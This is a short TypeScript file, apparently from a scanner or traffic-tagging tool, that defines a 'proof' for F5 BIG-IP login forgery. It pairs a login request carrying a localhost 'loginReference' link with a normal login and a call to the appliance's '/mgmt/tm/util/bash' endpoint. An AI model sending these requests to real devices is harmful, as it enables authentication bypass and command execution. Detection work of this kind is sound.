import { type Proof, post, proof } from '#tags/proof/sketch.ts'

export const proofs: readonly Proof[] = [
  proof(
    'f5-big-ip-login-forgery',
    post('/mgmt/shared/authn/login', '{"username":"x","loginReference":{"link":"http://localhost/x"}}'),
    [post('/mgmt/shared/authn/login', '{"username":"x","password":"y"}'), post('/mgmt/tm/util/bash', '{}')],
  ),
]
